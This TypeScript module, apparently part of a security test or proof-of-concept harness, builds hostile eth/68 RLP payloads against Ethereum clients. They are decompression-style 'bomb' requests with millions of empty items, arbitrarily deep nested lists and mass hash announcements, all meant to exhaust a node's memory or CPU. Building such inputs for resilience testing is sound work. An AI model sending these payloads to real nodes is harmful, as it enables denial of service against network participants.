/**
 * Hostile eth/68 payloads as raw bytes, built without materialising them as JS values (a 64M-item list would not fit
 * the attacker's own heap as an array of Uint8Arrays).
 */
import { randomBytes } from 'node:crypto'
import { RLP } from '@ethereumjs/rlp'
import { bigIntToBytes } from '@ethereumjs/util'

/** RLP length prefix for a list (0xc0) or string (0x80) body of `len` bytes. */
export function rlpPrefix(len: number, offset: 0x80 | 0xc0): Uint8Array {
  if (len < 56) return Uint8Array.of(offset + len)
  const hex = len.toString(16)
  const bytes = Buffer.from(hex.length % 2 === 1 ? `0${hex}` : hex, 'hex')
  return Uint8Array.from([offset + 55 + bytes.length, ...bytes])
}

/** A list of `n` empty strings: `n` + ~5 bytes, `n` decoded items. */
export function emptyStringList(n: number): Uint8Array {
  const pre = rlpPrefix(n, 0xc0)
  const out = new Uint8Array(pre.length + n).fill(0x80)
  out.set(pre)
  return out
}

/** `[reqId, <n empty strings>]`: the bomb in a request's shape. */
export function bombRequest(n: number): Uint8Array {
  const inner = emptyStringList(n)
  const id = Uint8Array.of(0x01)
  const pre = rlpPrefix(id.length + inner.length, 0xc0)
  const out = new Uint8Array(pre.length + id.length + inner.length)
  out.set(pre)
  out.set(id, pre.length)
  out.set(inner, pre.length + id.length)
  return out
}

/** A list nested `depth` deep around an empty list. */
export function deepList(depth: number): Uint8Array {
  const lens: number[] = []
  let len = 0
  for (let i = 0; i < depth; i++) {
    lens.push(len)
    len += rlpPrefix(len, 0xc0).length
  }
  const out = new Uint8Array(len)
  let off = 0
  for (let i = depth - 1; i >= 0; i--) {
    const p = rlpPrefix(lens[i]!, 0xc0)
    out.set(p, off)
    off += p.length
  }
  return out
}

export const randomHash = (): Uint8Array => new Uint8Array(randomBytes(32))

/** An RLP list around already-encoded items, joined once (RLP.encode spreads its items as arguments). */
export function rlpList(items: Uint8Array[]): Uint8Array {
  const len = items.reduce((n, x) => n + x.length, 0)
  const pre = rlpPrefix(len, 0xc0)
  const out = new Uint8Array(pre.length + len)
  out.set(pre)
  let off = pre.length
  for (const x of items) {
    out.set(x, off)
    off += x.length
  }
  return out
}

/** eth/68 NewPooledTransactionHashes `[types, sizes, hashes]` for `n` random hashes. */
export function announcement(n: number): Uint8Array {
  const types = RLP.encode(new Uint8Array(n).fill(2))
  const sizes = rlpList(Array.from({ length: n }, () => RLP.encode(bigIntToBytes(120n))))
  const hashes = rlpList(Array.from({ length: n }, () => RLP.encode(randomHash())))
  return rlpList([types, sizes, hashes])
}
